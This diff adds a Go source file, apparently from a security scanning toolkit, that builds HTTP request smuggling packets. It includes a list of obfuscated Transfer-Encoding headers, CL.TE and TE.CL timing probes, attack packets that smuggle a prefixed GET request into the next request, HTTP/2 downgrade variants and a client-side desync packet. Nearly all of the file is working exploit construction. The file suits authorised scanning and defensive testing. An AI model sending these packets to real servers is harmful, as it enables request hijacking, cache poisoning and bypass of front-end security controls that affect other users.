@@ -0,0 +1,177 @@
+package smuggle
+
+import (
+	"bytes"
+	"fmt"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils/lowhttp"
+)
+
+const plainTransferEncoding = "Transfer-Encoding: chunked"
+
+// teObfuscation 是混淆后的 Transfer-Encoding 头，前后端对它的理解不一致时即为 TE.TE
+type teObfuscation struct {
+	Name   string
+	Header string
+}
+
+var teObfuscations = []teObfuscation{
+	{Name: "space-before-colon", Header: "Transfer-Encoding : chunked"},
+	{Name: "tab-separator", Header: "Transfer-Encoding:\tchunked"},
+	{Name: "vertical-tab", Header: "Transfer-Encoding:\x0bchunked"},
+	{Name: "obs-fold", Header: "Transfer-Encoding:\r\n chunked"},
+	{Name: "leading-space", Header: "X-Padding: x\r\n Transfer-Encoding: chunked"},
+	{Name: "duplicate-invalid-last", Header: "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"},
+	{Name: "duplicate-invalid-first", Header: "Transfer-Encoding: x\r\nTransfer-Encoding: chunked"},
+	{Name: "identity-list", Header: "Transfer-Encoding: identity, chunked"},
+	{Name: "quoted", Header: `Transfer-Encoding: "chunked"`},
+	{Name: "uppercase", Header: "Transfer-Encoding: CHUNKED"},
+	{Name: "prefix", Header: "Transfer-Encoding: xchunked"},
+	{Name: "underscore", Header: "Transfer_Encoding: chunked"},
+}
+
+// buildPacket 基于模板请求构造探测报文
+// 模板中的 Content-Length / Transfer-Encoding / Connection 会被移除，headers 会原样写入，保证混淆后的头不被修正
+func buildPacket(base []byte, method, path string, headers []string, body string) []byte {
+	_, uri, _ := lowhttp.GetHTTPPacketFirstLine(base)
+	if path == "" {
+		path = uri
+	}
+	var buf bytes.Buffer
+	buf.WriteString(fmt.Sprintf("%s %s HTTP/1.1\r\n", method, path))
+	lowhttp.SplitHTTPPacket(base, nil, nil, func(line string) string {
+		k, _ := lowhttp.SplitHTTPHeader(line)
+		switch strings.ToLower(strings.TrimSpace(k)) {
+		case "content-length", "transfer-encoding", "connection", "content-type":
+		default:
+			buf.WriteString(line + "\r\n")
+		}
+		return line
+	})
+	for _, h := range headers {
+		buf.WriteString(h + "\r\n")
+	}
+	buf.WriteString("\r\n")
+	buf.WriteString(body)
+	return buf.Bytes()
+}
+
+func hostOf(base []byte) string {
+	return lowhttp.GetHTTPPacketHeader(base, "Host")
+}
+
+// smugglePrefix 是被走私到下一个请求前面的前缀，不以 CRLF 结尾，使下一个请求的首行落入 X-Ignore 头中
+func smugglePrefix(path string) string {
+	return fmt.Sprintf("GET %s HTTP/1.1\r\nX-Ignore: X", path)
+}
+
+// clteTiming 前端按 Content-Length 只转发 "1\r\nA"，后端按 chunked 解析后等待下一个 chunk 而挂起
+// 完整读取 body 的 chunked 解析方会遇到非法的 chunk size "Q" 并立即拒绝，不会被误判为挂起
+func clteTiming(base []byte, te string) (probe, control []byte) {
+	probe = buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 4",
+		te,
+	}, "1\r\nA\r\nQ\r\n")
+	control = buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 11",
+		te,
+	}, "1\r\nA\r\n0\r\n\r\n")
+	return
+}
+
+// teclTiming 前端按 chunked 只转发 "0\r\n\r\n"，后端按 Content-Length 继续等待最后一个字节而挂起
+func teclTiming(base []byte, te string) (probe, control []byte) {
+	probe = buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 6",
+		te,
+	}, "0\r\n\r\nX")
+	control = buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 5",
+		te,
+	}, "0\r\n\r\n")
+	return
+}
+
+// clteAttack 前端按 Content-Length 转发全部内容，后端在 "0\r\n\r\n" 处结束请求，剩余的前缀被当作下一个请求
+func clteAttack(base []byte, te string, path string) []byte {
+	body := "0\r\n\r\n" + smugglePrefix(path)
+	return buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		fmt.Sprintf("Content-Length: %d", len(body)),
+		te,
+	}, body)
+}
+
+// teclAttack 前端按 chunked 转发全部内容，后端只读取 chunk size 一行，chunk 中的请求被当作下一个请求
+func teclAttack(base []byte, te string, path string) []byte {
+	smuggled := fmt.Sprintf("GET %s HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1", path)
+	size := fmt.Sprintf("%x", len(smuggled))
+	body := size + "\r\n" + smuggled + "\r\n0\r\n\r\n"
+	return buildPacket(base, "POST", "", []string{
+		"Connection: close",
+		"Content-Type: application/x-www-form-urlencoded",
+		fmt.Sprintf("Content-Length: %d", len(size)+2),
+		te,
+	}, body)
+}
+
+// h2clTiming 声明的 content-length 比实际 body 长，降级后后端会等待剩余的 body 而挂起
+func h2clTiming(base []byte) (probe, control []byte) {
+	probe = buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 10",
+	}, "x")
+	control = buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 1",
+	}, "x")
+	return
+}
+
+// h2teTiming 降级后后端按 chunked 解析，等待下一个 chunk 而挂起
+func h2teTiming(base []byte) (probe, control []byte) {
+	probe = buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		plainTransferEncoding,
+	}, "1\r\nA\r\nX")
+	control = buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		plainTransferEncoding,
+	}, "1\r\nA\r\n0\r\n\r\n")
+	return
+}
+
+func h2clAttack(base []byte, path string) []byte {
+	return buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		"Content-Length: 0",
+	}, smugglePrefix(path))
+}
+
+func h2teAttack(base []byte, path string) []byte {
+	return buildPacket(base, "POST", "", []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		plainTransferEncoding,
+	}, "0\r\n\r\n"+smugglePrefix(path))
+}
+
+// clientSideAttack 在 keep-alive 连接上发送 body 为完整请求的 POST，
+// 忽略 Content-Length 的服务器会把 body 当作第二个请求处理并返回两个响应
+func clientSideAttack(base []byte, path string) []byte {
+	inner := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, hostOf(base))
+	return buildPacket(base, "POST", "", []string{
+		"Connection: keep-alive",
+		"Content-Type: application/x-www-form-urlencoded",
+		fmt.Sprintf("Content-Length: %d", len(inner)),
+	}, inner)
+}